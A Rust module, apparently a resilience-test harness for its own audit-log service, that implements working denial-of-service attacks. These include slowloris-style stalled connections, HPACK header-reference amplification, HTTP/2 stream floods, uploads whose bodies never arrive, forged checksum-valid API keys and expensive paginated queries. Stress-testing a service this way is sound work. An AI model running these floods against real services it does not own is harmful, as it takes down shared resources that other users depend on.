//! Attacks that take what all callers share: connections, memory, request permits, reads, key look-ups and streams. Each
//! renews what the service takes from it, until the time is over.

use std::collections::BTreeMap;
use std::io;
use std::time::{Duration, Instant};

use auditlog::domain::{BASE62, Random};
use rustix::process::{Resource, Rlimit, getrlimit, setrlimit};
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;
use tokio::task::JoinSet;

use super::Target;
use super::frames::{DATA, END_HEADERS, END_STREAM, HEADERS, Raw, WINDOW_UPDATE, frame, literal, string};
use super::http1::exchange;

const HEALTH: &str = "/grpc.health.v1.Health";
/// How often an attack looks at what became of its streams.
const TICK: Duration = Duration::from_millis(50);
/// Streams of a connection that the flood of keys leaves unanswered at most; the service allows 512.
const OPEN: usize = 400;

/// A key in the right form, with its checksum, that nobody has.
fn made_up_key(random: &Random) -> String {
    let body = format!("{}_{}", random.base62(12), "x".repeat(43));
    let crc = crc32fast::hash(body.as_bytes());
    let digit = |place: u32| char::from(BASE62[(crc / 62u32.pow(place) % 62) as usize]);
    format!("al_{body}{}", (0..6).rev().map(digit).collect::<String>())
}

/// The header block of a request.
fn head(target: &Target, method: &str, path: &str, more: &[(&str, &str)]) -> Vec<u8> {
    let mut block = Vec::new();
    literal(":method", method.as_bytes(), &mut block);
    literal(":scheme", b"http", &mut block);
    literal(":path", path.as_bytes(), &mut block);
    literal(":authority", target.address.to_string().as_bytes(), &mut block);
    more.iter().for_each(|(name, value)| literal(name, value.as_bytes(), &mut block));
    block
}

/// A connection of HTTP/2 whose streams are opened again once they are over, and which is opened again once it is closed.
struct Streams {
    target: Target,
    raw: Option<Raw>,
    /// Streams that were opened on this connection.
    opened: u32,
    /// Streams that the service answered or reset, and connections that it closed.
    over: usize,
    closed: usize,
}

impl Streams {
    fn new(target: &Target) -> Self {
        Self { target: target.clone(), raw: None, opened: 0, over: 0, closed: 0 }
    }

    /// Opens streams until `most` are open. `request` makes the frames of a stream.
    async fn fill(&mut self, most: usize, request: &mut impl FnMut(&Target, u32) -> Vec<u8>) {
        if self.raw.as_ref().is_none_or(|raw| raw.seen().is_closed) {
            self.closed += usize::from(self.raw.is_some());
            self.over += self.raw.take().map_or(0, |raw| raw.seen().over);
            self.opened = 0;
            // It may be refused; then again at the next tick.
            self.raw = Raw::open(&self.target, &[]).await.ok();
        }
        let Some(raw) = &mut self.raw else { return };
        if self.opened == 0 {
            // All answers are taken, so that none waits for a window.
            let mut bytes = Vec::new();
            frame(WINDOW_UPDATE, 0, 0, &0x7fff_0000u32.to_be_bytes(), &mut bytes);
            let _ = raw.send(&bytes).await;
        }
        let missing = (most + raw.seen().over).saturating_sub(self.opened as usize);
        for _ in 0..missing {
            let bytes = request(&self.target, 2 * self.opened + 1);
            self.opened += 1;
            if raw.send(&bytes).await.is_err() {
                return;
            }
        }
    }

    fn told(&self) -> String {
        let (over, left) = match self.raw.as_ref().map(Raw::seen) {
            Some(seen) => (self.over + seen.over, (self.opened as usize).saturating_sub(seen.over)),
            None => (self.over, 0),
        };
        format!("{over} streams answered or reset, {left} open in the end, {} connections closed", self.closed)
    }
}

/// Keeps `most` streams open on each of so many `connections`, looking at them each `tick`.
async fn keep_open(
    target: &Target,
    (connections, most): (usize, usize),
    (duration, tick): (Duration, Duration),
    mut request: impl FnMut(&Target, u32) -> Vec<u8>,
) -> String {
    let begun = Instant::now();
    let mut all: Vec<_> = (0..connections).map(|_| Streams::new(target)).collect();
    while begun.elapsed() < duration {
        for streams in &mut all {
            streams.fill(most, &mut request).await;
        }
        tokio::time::sleep(tick).await;
    }
    all.iter().map(Streams::told).collect::<Vec<_>>().join("; ")
}

/// More connections than may be open, each with a health check over gRPC-Web whose body does not come. A hundred a second
/// are opened anew.
pub async fn stalled_health_checks(target: Target, duration: Duration) -> io::Result<String> {
    const CONNECTIONS: usize = 1_100;
    const OPENERS: usize = 10;
    /// Of each.
    const RENEWAL: Duration = Duration::from_millis(100);
    let request = format!(
        "POST {HEALTH}/Check HTTP/1.1\r\nHost: {}\r\nContent-Type: application/grpc-web+proto\r\nContent-Length: 100\r\n\r\n\0",
        target.address
    );
    allow_files();
    let begun = Instant::now();
    let mut openers = JoinSet::new();
    for _ in 0..OPENERS {
        let (address, request) = (target.address, request.clone());
        openers.spawn(async move {
            let open = async || {
                let mut stream = TcpStream::connect(address).await?;
                stream.write_all(request.as_bytes()).await?;
                io::Result::Ok(stream)
            };
            // None is given up, which would leave a place to somebody else.
            let mut held = Vec::new();
            while begun.elapsed() < duration {
                held.extend(open().await.ok());
                if held.len() >= CONNECTIONS / OPENERS {
                    tokio::time::sleep(RENEWAL).await;
                }
            }
            held.len()
        });
    }
    let opened: usize = openers.join_all().await.into_iter().sum();
    Ok(format!("{opened} connections opened"))
}

/// Lets this process have as many files open as it may.
fn allow_files() {
    let allowed = getrlimit(Resource::Nofile);
    // Where that is too few, fewer connections are opened.
    let _ = setrlimit(Resource::Nofile, Rlimit { current: allowed.maximum, maximum: allowed.maximum });
}

/// Calls without a key and without a body, with a header that is remembered once and then named 3,700 times by a byte
/// each, from eight connections with 512 streams.
pub async fn repeated_headers(target: Target, duration: Duration) -> io::Result<String> {
    const REFERENCES: usize = 3_700;
    /// The newest entry of HPACK's dynamic table. Source: RFC 7541, 2.3.3 and 6.1.
    const NEWEST: u8 = 0x80 | 62;
    let request = |target: &Target, stream: u32| {
        let mut block = head(target, "POST", &format!("{HEALTH}/Check"), &[("content-type", "application/grpc")]);
        if stream == 1 {
            block.push(0x40);
            string(b"a", &mut block);
            string(b"", &mut block);
        }
        block.resize(block.len() + REFERENCES, NEWEST);
        let mut bytes = Vec::new();
        frame(HEADERS, END_HEADERS, stream, &block, &mut bytes);
        bytes
    };
    Ok(keep_open(&target, (8, 512), (duration, TICK), request).await)
}

/// Uploads with eight keys that nobody has, whose bodies do not come, over one connection: more than may be under way.
pub async fn open_uploads(target: Target, duration: Duration) -> io::Result<String> {
    let random = Random::system();
    let keys: Vec<_> = (0..8).map(|_| format!("Bearer {}", made_up_key(&random))).collect();
    let path = format!("/v1/{}/audit-logs", target.organization);
    let request = |target: &Target, stream: u32| {
        let key = keys[stream as usize / 2 % keys.len()].as_str();
        let more = [("content-type", "application/json"), ("authorization", key)];
        let mut bytes = Vec::new();
        frame(HEADERS, END_HEADERS, stream, &head(target, "POST", &path, &more), &mut bytes);
        bytes
    };
    Ok(keep_open(&target, (1, 330), (duration, TICK), request).await)
}

/// Lists with a hundred users and a hundred resources, which are too many together, and with as many as there may be, far
/// into their pages, from 40 connections. Errors: the first are answered.
pub async fn pairs_of_filters(target: Target, duration: Duration) -> io::Result<String> {
    const CONNECTIONS: usize = 40;
    let Target { address, organization, key } = &target;
    let request = |users: usize, resources: usize| {
        let users: String = (0..users).map(|number| format!("userId=u{number}&")).collect();
        let resources: String = (0..resources).map(|number| format!("resourceId=r{number}&")).collect();
        format!(
            "GET /v1/{organization}/audit-logs?{users}{resources}limit=1&offset=40000 HTTP/1.1\r\nHost: {address}\r\n\
             Authorization: Bearer {key}\r\nConnection: close\r\n\r\n"
        )
    };
    let (too_many, most, begun) = (request(100, 100), request(20, 50), Instant::now());
    let mut all = JoinSet::new();
    for _ in 0..CONNECTIONS {
        let (target, too_many, most) = (target.clone(), too_many.clone(), most.clone());
        all.spawn(async move {
            let mut told = BTreeMap::<String, usize>::new();
            while begun.elapsed() < duration {
                let refused = exchange(&target, too_many.as_bytes()).await.unwrap_or_else(|error| error.to_string());
                if refused.starts_with("HTTP/1.1 200") {
                    return Err(io::Error::other("a list of 100 users and 100 resources is answered"));
                }
                let answered = exchange(&target, most.as_bytes()).await.unwrap_or_else(|error| error.to_string());
                [refused, answered].into_iter().for_each(|line| *told.entry(line).or_default() += 1);
            }
            Ok(told)
        });
    }
    let mut told = BTreeMap::<String, usize>::new();
    while let Some(ended) = all.join_next().await {
        ended
            .expect("an attack does not panic")?
            .into_iter()
            .for_each(|(line, times)| *told.entry(line).or_default() += times);
    }
    Ok(format!("{told:?}"))
}

/// Keys that nobody has, each another one, as fast as the service answers.
pub async fn made_up_keys(target: Target, duration: Duration) -> io::Result<String> {
    let (path, random) = (format!("/v1/{}/audit-logs", target.organization), Random::system());
    let request = |target: &Target, stream: u32| {
        let bearer = format!("Bearer {}", made_up_key(&random));
        let mut bytes = Vec::new();
        let block = head(target, "GET", &path, &[("authorization", &bearer)]);
        frame(HEADERS, END_HEADERS | END_STREAM, stream, &block, &mut bytes);
        bytes
    };
    Ok(keep_open(&target, (3, OPEN), (duration, Duration::from_millis(5)), request).await)
}

/// Watches the health more often than all callers without a key may together, on one connection.
pub async fn watched_health(target: Target, duration: Duration) -> io::Result<String> {
    let request = |target: &Target, stream: u32| {
        let more = [("content-type", "application/grpc"), ("te", "trailers")];
        let mut bytes = Vec::new();
        frame(HEADERS, END_HEADERS, stream, &head(target, "POST", &format!("{HEALTH}/Watch"), &more), &mut bytes);
        frame(DATA, END_STREAM, stream, &[0; 5], &mut bytes);
        bytes
    };
    Ok(keep_open(&target, (1, 130), (duration, TICK), request).await)
}
